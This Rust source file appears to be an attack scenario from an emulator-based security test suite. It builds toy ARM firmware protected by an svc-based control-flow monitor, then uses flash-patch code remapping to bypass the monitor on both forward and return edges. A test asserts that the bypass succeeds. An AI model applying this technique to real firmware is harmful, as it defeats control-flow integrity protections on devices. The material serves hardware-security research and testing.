//! Defeat an svc-based branch monitor by remapping the instrumented call and
//! return sites to plain branches.

use fpb_emu::asm::{word_of, Assembler, Program};
use fpb_emu::isa::{Cond, Instruction, Reg};
use fpb_emu::machine::Stop;

use super::default_config;
use crate::attacker::Attacker;
use crate::context::{ScenarioContext, ScenarioError, Session};
use crate::firmware::{self, load_and_boot, outputs, FLASH, SRAM, STACK_TOP};
use crate::report::{Expect, ScenarioReport, Value};
use crate::{drive, ScenarioOutcome};

pub const NAME: &str = "cfi_bypass";
/// Monitor invocation counter.
const COUNTER: u32 = SRAM + 0x100;
const SHADOW: u32 = SRAM + 0x104;
/// Buffer the victim copies into r2; attacker controlled.
const BUF: u32 = SRAM + 0x200;
const FN_B_MARK: u8 = 0x0B;
const FN_C_MARK: u8 = 0x0C;
const DONE_MARK: u8 = 0xD0;
const BUDGET: u64 = 2_000;

/// `svc #1` calls `call_table[r3]` through the monitor, `svc #2` returns
/// through the monitor's shadow stack.
fn build() -> Result<Program, ScenarioError> {
    let mut a = Assembler::new(FLASH);
    firmware::vector_table(&mut a, STACK_TOP, &[(11, "monitor")]);
    firmware::unhandled(&mut a);
    a.label("monitor");
    a.ldr_const(Reg::R0, COUNTER);
    a.ldr(Reg::R1, Reg::R0, 0);
    a.adds8(Reg::R1, 1);
    a.str(Reg::R1, Reg::R0, 0);
    a.ldr_sp(Reg::R0, 24);
    a.subs8(Reg::R0, 2);
    a.ldrb(Reg::R1, Reg::R0, 0);
    a.cmp_imm(Reg::R1, 1);
    a.b_cond(Cond::Eq, "forward");
    a.ldr_const(Reg::R0, SHADOW);
    a.ldr(Reg::R1, Reg::R0, 0);
    a.str_sp(Reg::R1, 24);
    a.bx(Reg::LR);
    a.label("forward");
    a.ldr_sp(Reg::R0, 24);
    a.ldr_const(Reg::R2, SHADOW);
    a.str(Reg::R0, Reg::R2, 0);
    a.ldr_sp(Reg::R1, 12);
    a.lsls(Reg::R1, Reg::R1, 2);
    a.ldr_addr(Reg::R2, "call_table", false);
    a.ldr_reg(Reg::R1, Reg::R2, Reg::R1);
    a.str_sp(Reg::R1, 24);
    a.bx(Reg::LR);
    a.pool();
    a.align(4);
    a.label("call_table");
    a.word_label("fn_a", false);
    a.word_label("fn_b", false);

    a.label("reset");
    a.movs(Reg::R3, 1);
    a.b("call_site");
    a.align(4);
    a.label("call_site");
    a.svc(1);
    firmware::emit_report(&mut a, 0, DONE_MARK);
    a.b_self();
    a.pool();

    a.label("fn_a");
    firmware::emit_report(&mut a, 4, 0x0A);
    a.svc(2);
    a.pool();

    a.label("fn_b");
    a.ldr_const(Reg::R0, BUF);
    a.ldr(Reg::R2, Reg::R0, 0);
    firmware::emit_report(&mut a, 4, FN_B_MARK);
    a.align(4);
    a.label("return_site");
    a.svc(2);
    a.nop();
    a.pool();

    a.label("fn_c");
    firmware::emit_report(&mut a, 8, FN_C_MARK);
    a.b_self();
    a.pool();
    firmware::finish(a)
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Edge {
    None,
    Forward,
    Backward,
}

struct Outcome {
    monitor_calls: u32,
    fn_b: bool,
    fn_c: bool,
    done: bool,
    r2: u32,
}

fn attempt(session: &mut Session, ctx: &ScenarioContext, edge: Edge) -> Result<Outcome, ScenarioError> {
    let program = build()?;
    let fn_c = program.addr("fn_c");
    let run = match edge {
        Edge::None => "control",
        Edge::Forward => "forward",
        Edge::Backward => "backward",
    };
    let mut m = session.machine(default_config(ctx)?)?;
    load_and_boot(&mut m, &[&program])?;
    if edge != Edge::None {
        let mut atk = Attacker::new(&mut m);
        atk.place_table(SRAM + 0x1000)?;
        match edge {
            Edge::Forward => {
                let site = program.addr("call_site");
                let b = Instruction::B { offset: fn_c.wrapping_sub(site + 4) as i32 };
                atk.remap_code(0, site, word_of(b, Instruction::Nop)?)?;
            }
            Edge::Backward => {
                atk.write(BUF, fn_c | 1)?;
                atk.remap_code(0, program.addr("return_site"), word_of(Instruction::Bx { rm: Reg::R2 }, Instruction::Nop)?)?;
            }
            Edge::None => unreachable!(),
        }
        atk.enable_fpb()?;
    }
    // Stop once the program settles in fn_c or after the final report.
    let settle = [program.addr("fn_c") + 6, program.addr("call_site") + 8];
    session.run_for(&mut m, run, &[Stop::PcEquals(settle[0]), Stop::PcEquals(settle[1])], BUDGET);
    Ok(Outcome {
        monitor_calls: m.peek_word(COUNTER).unwrap_or(0),
        fn_b: outputs(&m, 4) == [u32::from(FN_B_MARK)],
        fn_c: outputs(&m, 8) == [u32::from(FN_C_MARK)],
        done: outputs(&m, 0) == [u32::from(DONE_MARK)],
        r2: m.reg(Reg::R2),
    })
}

pub fn cfi_bypass(ctx: &ScenarioContext) -> ScenarioOutcome {
    drive(NAME, ctx, |session, report: &mut ScenarioReport| {
        let c = attempt(session, ctx, Edge::None)?;
        report.expect("control.monitor_calls", Value::Count(c.monitor_calls.into()), Expect::AtLeast(1));
        report.expect_eq("control.fn_b_reached", Value::Flag(c.fn_b), Value::Flag(true));
        report.expect_eq("control.fn_c_reached", Value::Flag(c.fn_c), Value::Flag(false));
        report.expect_eq("control.returned_to_caller", Value::Flag(c.done), Value::Flag(true));

        let f = attempt(session, ctx, Edge::Forward)?;
        report.expect_eq("forward.monitor_calls", Value::Count(f.monitor_calls.into()), Value::Count(0));
        report.expect_eq("forward.fn_c_reached", Value::Flag(f.fn_c), Value::Flag(true));
        report.expect_eq("forward.fn_b_reached", Value::Flag(f.fn_b), Value::Flag(false));
        report.expect_differs("forward.fn_c_reached", "control.fn_c_reached");

        let b = attempt(session, ctx, Edge::Backward)?;
        let fn_c = build()?.addr("fn_c");
        report.expect_eq("backward.monitor_calls", Value::Count(b.monitor_calls.into()), Value::Count(1));
        report.expect_eq("backward.r2", Value::Word(b.r2), Value::Word(fn_c | 1));
        report.expect_eq("backward.fn_c_reached", Value::Flag(b.fn_c), Value::Flag(true));
        report.expect_eq("backward.returned_to_caller", Value::Flag(b.done), Value::Flag(false));
        Ok(())
    })
}

pub fn run(ctx: &ScenarioContext) -> ScenarioOutcome {
    cfi_bypass(ctx)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn both_edges_bypass_the_monitor() {
        let out = run(&ScenarioContext::default());
        assert!(out.report.passed, "{:#?}", out.report);
    }
}
